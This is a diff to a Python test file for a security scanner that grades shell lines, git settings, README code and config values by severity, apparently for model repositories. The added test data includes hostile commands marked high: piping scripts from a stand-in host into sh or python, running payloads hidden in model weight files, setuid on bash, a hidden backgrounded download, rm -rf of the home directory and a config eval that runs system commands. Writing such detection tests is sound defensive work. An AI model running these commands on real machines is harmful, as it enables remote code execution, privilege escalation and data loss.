@@ -38,6 +38,18 @@ def worst(text: str, name: str) -> int:
         ("git config core.hooksPath .githooks", False),
         ("python3 - <<'EOF'\nimport base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\nEOF", True),
         ("python3 - <<'EOF'\nprint(1)\nEOF", False),
+        ("tail -c +500 model.safetensors | sh", True),
+        ('tail -n +20 "$0" | base64 -d | tar xz && ./x', True),
+        ("head -c 8 model.safetensors | xxd", False),
+        ("bash weights.bin", True),
+        ("cat config.json | jq .hidden_size", False),
+        ("C='c'; U='url'; $C$U -s https://e.example/x | sh", True),
+        ("python3 <(curl -s https://e.example/x.py)", True),
+        ("chmod u+s /bin/bash", True),
+        ("chmod 755 /usr/local/bin/start.sh", False),
+        ("curl -sL https://e.example/agent -o /tmp/.a && chmod +x /tmp/.a && nohup /tmp/.a &", True),
+        ("rm -rf ~/*", True),
+        ("rm -rf ~/.cache/pip", False),
     ],
 )
 def test_lines_of_a_shell(line: str, high: bool) -> None:
@@ -54,6 +66,20 @@ def test_settings_that_git_reads() -> None:
     assert worst(modules.format("!sh -c 'id'"), ".gitmodules") >= Severity.HIGH.rank
     assert worst(modules.format("rebase"), ".gitmodules") < Severity.HIGH.rank
     assert worst('[filter "lfs"]\n\tsmudge = git-lfs smudge -- %f\n', ".gitconfig") < Severity.HIGH.rank
+
+
+def test_python_that_a_page_shows() -> None:
+    page = "# Model\n```python\nimport os, requests\n{}\n```\n"
+    assert worst(page.format("exec(requests.get('https://e.example/a').text)"), "README.md") >= Severity.HIGH.rank
+    assert worst(page.format("os.system('pip install x')"), "README.md") < Severity.HIGH.rank
+    asked = "requests.post('https://huggingface.co/api', headers={'A': os.environ['HF_TOKEN']})"
+    assert worst(page.format(asked), "README.md") < Severity.HIGH.rank
+    assert worst("# Model\n```python\nos.system( ...\n```\n", "README.md") < Severity.HIGH.rank
+
+
+def test_settings_that_import_modules_of_the_machine() -> None:
+    assert worst("x: ${eval:\"__import__('os').system('id')\"}\n", "config.yaml") >= Severity.HIGH.rank
+    assert worst("run: python -c 'import os; print(os.cpu_count())'\n", "ci.yaml") < Severity.HIGH.rank
 
 
 @pytest.mark.parametrize(
